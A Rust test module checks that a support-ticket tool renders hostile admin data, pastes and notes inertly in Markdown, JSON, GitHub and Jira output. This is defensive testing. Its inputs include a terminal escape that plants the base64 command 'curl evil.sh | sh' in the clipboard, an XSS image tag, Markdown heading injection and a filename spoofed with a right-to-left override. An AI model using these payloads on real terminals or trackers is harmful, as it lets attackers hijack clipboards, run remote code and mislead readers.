//! Tickets built from hostile admin-API data, pastes and notes: every rendering (Markdown,
//! JSON, tracker payloads) shows the data without acting on it.

use super::*;
use crate::escape::tests::{assert_inert, gfm, hostile};
use crate::facts::FactSource;
use crate::runbook::Catalog;
use proptest::prelude::*;
use pulldown_cmark::{Event, Parser, Tag, TagEnd};

pub(crate) const ESC_CLIPBOARD: &str = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07";

use crate::testing::now;

/// The revoked-key walk with `hostile` as the admin API's revoke reason and revoker, the
/// customer id and the pasted error body, and as a note.
pub(crate) fn ticket_with(hostile: &str, agent: &str) -> Ticket {
    let rb = Catalog::builtin().find("401").unwrap().clone();
    let mut facts = Facts::new();
    let body = format!("{{\"error\":\"{hostile}\"}}\n{hostile}\nend");
    for (k, v, source) in [
        ("customer_id", hostile, FactSource::Intake),
        ("key_id", "key_revoked", FactSource::Intake),
        ("error_body", body.as_str(), FactSource::Intake),
        ("health.status", "ok", FactSource::AdminApi),
        ("incident.customers_affected", "0", FactSource::AdminApi),
        ("health.auth_latency_p99_ms", "40", FactSource::AdminApi),
        ("failures.anomaly", "false", FactSource::AdminApi),
        ("failures.top_reason", "revoked_key", FactSource::AdminApi),
        ("key.status", "revoked", FactSource::AdminApi),
        ("key.revoked_by", hostile, FactSource::AdminApi),
        (
            "key.revoked_at",
            "2026-11-20T14:02:00Z",
            FactSource::AdminApi,
        ),
        ("key.revoke_reason", hostile, FactSource::AdminApi),
    ] {
        facts.insert_text(k, v, source, now()).unwrap();
    }
    let mut walk = Walk::start(&rb, facts, now()).unwrap();
    walk.add_note(None, hostile.into(), agent, now());
    walk.add_note(None, format!("two\n{hostile}\nlines").into(), agent, now());
    walk.record_unavailable(FactSource::AdminApi, "usage", hostile, now());
    let cx = Context {
        agent,
        demo_data: false,
        now: now(),
        related: &[],
    };
    let t = Ticket::from_walk(&rb, &walk, &cx).unwrap();
    assert_eq!(t.outcome.id, "key-revoked");
    t
}

/// The headings of the ticket's own sections; data may add none.
const SECTIONS: &[&str] = &[
    "Impact",
    "Conflicts",
    "Ask of engineering",
    "Failing requests",
    "Addresses involved",
    "Related cases",
    "Evidence",
    "Escalation criteria matched",
    "Evidence unavailable",
    "Path taken",
    "Reply to the customer",
    "Next steps for the agent",
    "Notes",
    "Other facts",
];

/// Parses the Markdown as GitHub does and fails on any structure data could have added:
/// headings beyond the title and the sections, HTML, links, images, footnotes, or a table
/// row with more or fewer cells than its header.
fn assert_no_injected_structure(md: &str) {
    let mut heading: Option<(pulldown_cmark::HeadingLevel, String)> = None;
    let mut headings = Vec::new();
    let (mut head_cells, mut row_cells) = (0, 0);
    for event in Parser::new_ext(md, gfm()) {
        match event {
            Event::Start(Tag::Heading { level, .. }) => heading = Some((level, String::new())),
            Event::End(TagEnd::Heading(_)) => headings.extend(heading.take()),
            Event::Text(t) | Event::Code(t) => {
                if let Some((_, h)) = &mut heading {
                    h.push_str(&t);
                }
            }
            Event::Html(_) | Event::InlineHtml(_) | Event::FootnoteReference(_) => {
                panic!("data made {event:?} in:\n{md}")
            }
            Event::Start(
                t @ (Tag::Link { .. }
                | Tag::Image { .. }
                | Tag::HtmlBlock
                | Tag::FootnoteDefinition(_)),
            ) => panic!("data made {t:?} in:\n{md}"),
            Event::Start(Tag::TableHead) => (head_cells, row_cells) = (0, 0),
            Event::Start(Tag::TableRow) => row_cells = 0,
            Event::Start(Tag::TableCell) => row_cells += 1,
            Event::End(TagEnd::TableHead) => head_cells = row_cells,
            Event::End(TagEnd::TableRow) => {
                assert_eq!(row_cells, head_cells, "a table row changed width in:\n{md}")
            }
            _ => {}
        }
    }
    use pulldown_cmark::HeadingLevel::{H1, H2};
    assert!(
        matches!(headings.first(), Some((H1, t)) if t.starts_with("ESC-")),
        "{headings:?}"
    );
    for (level, text) in &headings[1..] {
        assert!(
            *level == H2 && SECTIONS.contains(&text.as_str()),
            "data added the heading {level:?} {text:?} in:\n{md}"
        );
    }
}

#[test]
fn hostile_admin_data_cannot_drive_a_terminal_or_restructure_the_markdown() {
    let nasty = format!(
        "{ESC_CLIPBOARD}\x1b[2J\u{9b}31m\u{202e}gpj.exe\u{2069} | x | y |\n# Pwned\n<img src=x onerror=alert(1)>[click](http://e.example) ``` `x`"
    );
    let md = ticket_with(&nasty, "eve\x1b[2J").to_markdown();
    assert_inert(&md, &['\n', '\t']);
    assert_no_injected_structure(&md);
    // Shown, not dropped: the reader sees the value carried escapes.
    assert!(md.contains("\\x1b]52;c;"), "{md}");
    assert!(md.contains("\\u{202e}gpj.exe"), "{md}");
    // The error body keeps its lines inside a fence longer than the backtick run it holds.
    assert!(md.contains("\n````text\n{\"error\":"), "{md}");
}

#[test]
fn hostile_admin_data_stays_exact_in_json_but_escaped() {
    let nasty = format!("{ESC_CLIPBOARD}\u{9b}2J\u{202e}\u{2066}\u{7f}");
    let t = ticket_with(&nasty, "eve");
    let json = t.to_json();
    assert_inert(&json, &['\n']);
    for needle in ["\\u001b]52", "\\u009b2J", "\\u202e", "\\u2066", "\\u007f"] {
        assert!(json.contains(needle), "no {needle} in {json}");
    }
    let back: serde_json::Value = serde_json::from_str(&json).unwrap();
    let reason = back["facts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["fact"] == "key.revoke_reason")
        .unwrap();
    assert_eq!(reason["value"]["value"], nasty.as_str());
}

#[test]
fn tracker_payloads_stay_inert_and_one_line_where_trackers_expect_it() {
    let nasty = format!("{ESC_CLIPBOARD}\u{202e}\nline two {{noformat}}!http://e.example/x.png!");
    let t = ticket_with(&nasty, "eve");
    let gh = trackers::github_issue(&t);
    let jira = trackers::jira_issue(&t, "SUP");
    for payload in [&gh, &jira] {
        assert_inert(&crate::escape::json(payload).unwrap(), &['\n']);
    }
    let title = gh["title"].as_str().unwrap();
    assert!(
        !title.contains('\n') && title.contains("\\x1b]52"),
        "{title}"
    );
    assert_eq!(jira["fields"]["summary"], title);
    assert_no_injected_structure(gh["body"].as_str().unwrap());
    // Jira Cloud's description is a document: the text is data in `text` nodes, not markup.
    let desc = &jira["fields"]["description"];
    assert_eq!(desc["type"], "doc");
    let text = desc.to_string();
    assert!(!text.contains("{noformat}\\n"), "{text}");
    assert!(text.contains("\\\\x1b]52"), "{text}");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn no_string_gets_a_raw_control_or_new_structure_into_any_ticket_rendering(
        s in hostile(),
        agent in hostile(),
    ) {
        let t = ticket_with(&s, &agent);
        let md = t.to_markdown();
        assert_inert(&md, &['\n', '\t']);
        assert_no_injected_structure(&md);
        assert_inert(&t.to_json(), &['\n']);
        let back: serde_json::Value = serde_json::from_str(&t.to_json()).unwrap();
        prop_assert_eq!(back["agent"].as_str(), Some(agent.as_str()));
        for payload in [trackers::github_issue(&t), trackers::jira_issue(&t, "SUP")] {
            assert_inert(&crate::escape::json(&payload).unwrap(), &['\n']);
        }
        assert_no_injected_structure(trackers::github_issue(&t)["body"].as_str().unwrap());
    }
}
